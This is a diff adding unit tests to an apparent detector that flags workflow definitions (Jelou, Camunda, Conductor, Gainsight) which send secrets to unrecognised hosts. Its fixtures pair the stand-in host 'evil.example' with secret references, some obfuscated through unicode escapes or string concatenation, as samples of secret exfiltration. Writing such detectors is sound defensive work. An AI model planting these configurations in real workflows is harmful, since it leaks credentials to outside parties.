@@ -192,6 +192,61 @@ describe('of several URLs', () => {
     },
   );
 
+  it.each([
+    'authorizationUrl',
+    'oauthTokenEndpoint',
+    'TokenUrl',
+    'TOKEN_URL',
+    'host',
+    'href',
+    'Server',
+    'proxy',
+    'webhook-url',
+  ])('what is called %s may be one', (key) => {
+    expect(findingsIn('jelou', oauth(key))).toHaveLength(1);
+    expect(
+      findingsIn('jelou', oauth(key).replace('https://evil.example/token', 'evil.example')),
+    ).toHaveLength(1);
+    expect(findingsIn('jelou', oauth(key).replace('https://evil.example/token', '{ a: 1 }'))).toHaveLength(1);
+    expect(findingsIn('jelou', oauth(key).replace('https://evil.example/token', 'false'))).toEqual([]);
+    expect(findingsIn('jelou', oauth(key).replace('evil.example', 'api.stripe.com'))).toEqual([]);
+  });
+
+  it('what is called like one, alone, is none', () => {
+    const workflow = 'nodes:\n  - server: https://api.stripe.com\n    headers: { A: "{{$secret.KEY}}" }\n';
+    const [finding] = findingsIn('jelou', workflow);
+    expect(finding?.message).toContain('no part of a request whose destination is known');
+  });
+
+  it.each([
+    ['= { url: "https://evil.example", key: "{{secrets.KEY}}" }', 1],
+    ['= { "url" : "https://evil.example", key: "{{secrets.KEY}}" }', 1],
+    ['= { "\\u0075rl": "https://evil.example", key: "{{secrets.KEY}}" }', 1],
+    ['= { url: "https://api.stripe.com" + domain, key: "{{secrets.KEY}}" }', 1],
+    ['= { url: address, key: "{{secrets.KEY}}" }', 1],
+    ['= context put({ key: "{{secrets.KEY}}" }, "url", "https://evil.example")', 1],
+    ['= "{\\"url\\": \\"https://evil.example\\", \\"key\\": \\"{{secrets.KEY}}\\"}"', 1],
+    ['{ "webhook_url": "https://evil.example", "key": "{{secrets.KEY}}" }', 1],
+    ['= "{\\"url\\": \\"https://api.stripe.com\\", \\"key\\": \\"{{secrets.KEY}}\\"}"', 0],
+    ['= { url: "https://api.stripe.com/v1", key: "{{secrets.KEY}}" }', 0],
+    ['= { curl: "https://evil.example", key: "{{secrets.KEY}}" }', 0],
+    ['the url: {{secrets.KEY}}', 0],
+  ])('in Camunda a context or JSON in the field holds them, too: %s', (body, count) => {
+    expect(findingsIn('camunda', bpmn({ url: 'https://api.stripe.com', body }))).toHaveLength(count);
+  });
+
+  it.each([
+    [{ callback: { uri: 'https://evil.example', headers: { A: '${workflow.secrets.KEY}' } } }, 1],
+    [{ callback: { Target_URL: 'https://evil.example', with: { A: '${workflow.secrets.KEY}' } } }, 1],
+    ['{"url":"https://evil.example","key":"${workflow.secrets.KEY}"}', 1],
+    [{ callback: { uri: 'https://api.stripe.com/cb', headers: { A: '${workflow.secrets.KEY}' } } }, 0],
+    [{ callback: { uri: 'https://evil.example' }, key: '${workflow.secrets.KEY}' }, 0],
+  ])('in Conductor what is nested in a body is sent on: %j', (body, count) => {
+    const http_request = { uri: 'https://api.stripe.com', body };
+    const task = { name: 'c', taskReferenceName: 'c', type: 'HTTP', inputParameters: { http_request } };
+    expect(findingsIn('conductor', json({ name: 'f', tasks: [task] }))).toHaveLength(count);
+  });
+
   const authentication = { type: 'oauth_client_credentials', config: {} };
   it.each(['token_url', 'url', 'tokenUri'])('in Gainsight that of the token counts: %s', (key) => {
     const config = { [key]: 'https://evil.example', client_secret: "{{ get_secret('KEY') }}" };
